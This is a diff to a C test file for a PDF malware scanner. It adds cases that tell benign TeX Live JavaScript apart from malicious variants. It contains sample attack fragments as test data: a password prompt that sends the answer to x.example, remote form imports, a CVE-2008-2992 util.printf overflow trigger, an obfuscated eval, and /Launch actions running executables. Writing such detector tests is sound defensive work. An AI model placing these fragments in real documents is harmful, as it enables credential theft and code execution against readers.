@@ -177,12 +177,32 @@ static const struct pcase cases[] = {
      "pdf.javascript", FG_SEV_LOW, "AFNumber_Keystroke(2,0,0,0", FG_VERDICT_CLEAN},
     {"open action runs JavaScript",
      {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
+       "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://x.example/'\\);) >>"}, {0}},
+     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
+    {"open action only shows a message (quizzes, form helpers)",
+     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>"}, {0}},
+     "pdf.openaction", FG_SEV_LOW, "/OpenAction 5 0 R", FG_VERDICT_CLEAN},
+    {"open action asks the reader a question (quizzes); sending the answer would be more",
+     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
+       "<< /Type /Action /S /JavaScript /JS (var p = app.response\\('PIN'\\);) >>"}, {0}},
+     "pdf.openaction", FG_SEV_LOW, "/OpenAction 5 0 R", FG_VERDICT_CLEAN},
+    {"open action asks for a password and sends it",
+     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
+       "<< /Type /Action /S /JavaScript /JS (var p = app.response\\('Password'\\); this.submitForm\\('http://x.example/?' + p\\);) >>"}, {0}},
+     "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
+    {"open action imports form data from the file beside it (AcroTeX)",
+     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
+       "<< /Type /Action /S /JavaScript /JS (this.importAnFDF\\('quiz.fdf'\\);) >>"}, {0}},
+     "pdf.openaction", FG_SEV_LOW, "/OpenAction 5 0 R", FG_VERDICT_CLEAN},
+    {"open action imports form data from a server",
+     {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
+       "<< /Type /Action /S /JavaScript /JS (this.importAnFDF\\('http://x.example/a.fdf'\\);) >>"}, {0}},
      "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
     {"JavaScript text as evidence",
      {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
-       "<< /S /JavaScript /JS <6170702E616C657274283129> >>"}, {0}},
-     "pdf.javascript", FG_SEV_LOW, "app.alert(1)", FG_VERDICT_SUSPICIOUS},
+       "<< /S /JavaScript /JS <6170702E6C61756E636855524C283129> >>"}, {0}},
+     "pdf.javascript", FG_SEV_LOW, "app.launchURL(1)", FG_VERDICT_SUSPICIOUS},
     {"hex-escaped names",
      {{NULL, CATALOG("/Open#41ction << /S /J#61vaScript /J#53 (this.print\\(\\)) >>"), PAGES,
        PAGE(""), CONTENT}, {0}},
@@ -205,7 +225,7 @@ static const struct pcase cases[] = {
      "pdf.javascript", FG_SEV_MEDIUM, "unescape('%u9090", FG_VERDICT_SUSPICIOUS},
     {"page open action (/AA /O) runs JavaScript",
      {{NULL, CATALOG(""), PAGES, PAGE("/AA 5 0 R"), CONTENT, "<< /O 6 0 R >>",
-       "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}, {0}},
+       "<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>"}, {0}},
      "pdf.openaction", FG_SEV_MEDIUM, "/AA 5 0 R", FG_VERDICT_SUSPICIOUS},
     {"/Launch of cmd.exe",
      {{NULL, CATALOG("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
@@ -227,7 +247,7 @@ static const struct pcase cases[] = {
     {"rich media",
      {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
        "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}, {0}},
-     "pdf.richmedia", FG_SEV_MEDIUM, "RichMedia", FG_VERDICT_SUSPICIOUS},
+     "pdf.richmedia", FG_SEV_LOW, "RichMedia", FG_VERDICT_CLEAN},
     {"XFA form",
      {{NULL, CATALOG("/AcroForm << /Fields [] /XFA 5 0 R >>"), PAGES, PAGE(""), CONTENT,
        "STREAM:\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>"}, {0}},
@@ -235,17 +255,17 @@ static const struct pcase cases[] = {
     /* Compressed object streams: the catalog and the action where a viewer finds them. */
     {"object stream: trigger and script together",
      {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
-       "<< /S /JavaScript /JS (app.alert\\(2\\)) >>"},
+       "<< /S /JavaScript /JS (app.launchURL\\(2\\)) >>"},
       {0, 1, 0, 0, 0, 1}},
      "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
     {"object stream: trigger in the file, script compressed",
      {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
-       "<< /S /JavaScript /JS (app.alert\\(3\\)) >>"},
+       "<< /S /JavaScript /JS (app.launchURL\\(3\\)) >>"},
       {0, 0, 0, 0, 0, 1}},
      "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
     {"object stream: trigger compressed, script in the file",
      {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
-       "<< /S /JavaScript /JS (app.alert\\(4\\)) >>"},
+       "<< /S /JavaScript /JS (app.launchURL\\(4\\)) >>"},
       {0, 1, 1, 1}},
      "pdf.openaction", FG_SEV_MEDIUM, "/OpenAction 5 0 R", FG_VERDICT_SUSPICIOUS},
     {"object stream: hyperlinks only",
@@ -253,6 +273,51 @@ static const struct pcase cases[] = {
        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >>"},
       {0, 1, 1, 1, 0, 1}},
      "pdf.uri", FG_SEV_INFO, "https://example.org/", FG_VERDICT_CLEAN},
+    /* Benign documents from Debian's TeX Live documentation (bench/doc_fp.sh) that were
+     * suspicious, and the malicious side of each rule that made them clean. */
+    {"animation started and stopped as its page shows (annotation /AA /PO /PC)",
+     {{NULL, CATALOG("/Names << /JavaScript 7 0 R >>"), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
+       "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /PO << /S /JavaScript /JS 6 0 R >>"
+       " /PC << /S /JavaScript /JS (try{if\\(b1_on\\){b1_stop\\(\\);}}catch\\(e\\){}) >> >> >>",
+       "STREAM:\ntry{if(!b1_on){b1_tm=app.setInterval('b1_next()', 40);}}catch(e){}",
+       "<< /Names [(anim) 8 0 R] >>",
+       "<< /S /JavaScript /JS (var b1_on=false; function b1_next\\(\\){this.getField\\('f'\\).value++;}) >>"},
+      {0}},
+     "pdf.openaction", FG_SEV_LOW, "/PO << /S /JavaScript /JS 6 0 R", FG_VERDICT_CLEAN},
+    {"the same trigger, code that opens a web page",
+     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
+       "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /PO << /S /JavaScript /JS 6 0 R >> >> >>",
+       "STREAM:\napp.launchURL('http://x.example/a', true);"}, {0}},
+     "pdf.openaction", FG_SEV_MEDIUM, "/PO << /S /JavaScript", FG_VERDICT_SUSPICIOUS},
+    {"quiz code: util.printf of a score, eval of field names, .replace on input",
+     {{NULL, CATALOG("/Names << /JavaScript 5 0 R >>"), PAGES, PAGE(""), CONTENT,
+       "<< /Names [(quiz) 6 0 R] >>", "<< /S /JavaScript /JS 7 0 R >>",
+       "STREAM:\nfunction score(q, p, t) { var o = eval(q); var s = util.printf(\"%.1f\", 100 * p / t);"
+       " return this.getField(o.name).value.replace(/\\s/g, '') + s; }"}, {0}},
+     "pdf.javascript", FG_SEV_LOW, "util.printf(\"%.1f\"", FG_VERDICT_CLEAN},
+    {"util.printf with a format 45000 wide (CVE-2008-2992)",
+     {{NULL, CATALOG("/Names << /JavaScript 5 0 R >>"), PAGES, PAGE(""), CONTENT,
+       "<< /Names [(x) 6 0 R] >>", "<< /S /JavaScript /JS 7 0 R >>",
+       "STREAM:\nvar n = 1.2e-300; util.printf(\"%45000.45000f\", n);"}, {0}},
+     "pdf.javascript", FG_SEV_MEDIUM, "util.printf", FG_VERDICT_SUSPICIOUS},
+    {"eval of a string decoded with .replace",
+     {{NULL, CATALOG("/Names << /JavaScript 5 0 R >>"), PAGES, PAGE(""), CONTENT,
+       "<< /Names [(x) 6 0 R] >>", "<< /S /JavaScript /JS 7 0 R >>",
+       "STREAM:\nvar c = 'app!2Ealert!281!29'; eval(c.replace(/!/g, '%'));"}, {0}},
+     "pdf.javascript", FG_SEV_MEDIUM, "eval(c.replace", FG_VERDICT_SUSPICIOUS},
+    {"/Launch of the manual's source, file named before the action (hyperref run: link)",
+     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
+       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A<</F(manual-examples.tex)/S/Launch>> >>"}, {0}},
+     "pdf.launch", FG_SEV_LOW, "/F(manual-examples.tex)/S/Launch", FG_VERDICT_CLEAN},
+    {"/Launch of a program, file named before the action",
+     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
+       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A<</F(tools/setup.exe)/S/Launch>> >>"}, {0}},
+     "pdf.launch", FG_SEV_HIGH, "/F(tools/setup.exe)/S/Launch", FG_VERDICT_MALICIOUS},
+    {"/Launch of a program, a .pdf named elsewhere in the action",
+     {{NULL, CATALOG(""), PAGES, PAGE("/Annots [5 0 R]"), CONTENT,
+       "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A<</F(run.exe)/S/Launch"
+       "/Next<</S/URI/URI(https://x.example/a.pdf)>>>> >>"}, {0}},
+     "pdf.launch", FG_SEV_HIGH, "/F(run.exe)/S/Launch", FG_VERDICT_MALICIOUS},
 };
 
 static int find(const fg_result *r, const char *id, int *sev, const char **ev)
@@ -385,7 +450,7 @@ static void test_rewritten(void **state)
     (void)state;
     fg_engine *e = tu_engine(NULL);
     const struct pdfspec sp = {{NULL, CATALOG("/OpenAction 5 0 R"), PAGES, PAGE(""), CONTENT,
-                                "<< /S /JavaScript /JS (app.alert\\('rewritten'\\);) >>"}, {0}};
+                                "<< /S /JavaScript /JS (app.launchURL\\('rewritten'\\);) >>"}, {0}};
     size_t n, m;
     uint8_t *pdf = make_pdf(&sp, &n);
     for (int encrypt = 0; encrypt < 2; encrypt++) {
@@ -394,7 +459,7 @@ static void test_rewritten(void **state)
             assert_non_null(memmem(out, m, "/ObjStm", 7));
         fg_result *r = tu_scan(e, "qpdf.pdf", out, m);
         int ok = tu_has_finding(r, "pdf.openaction") &&
-                 has_evidence(r, "pdf.javascript", "app.alert('rewritten');") &&
+                 has_evidence(r, "pdf.javascript", "app.launchURL('rewritten');") &&
                  fg_result_verdict(r) == FG_VERDICT_SUSPICIOUS;
         if (!ok)
             tu_dump(r);
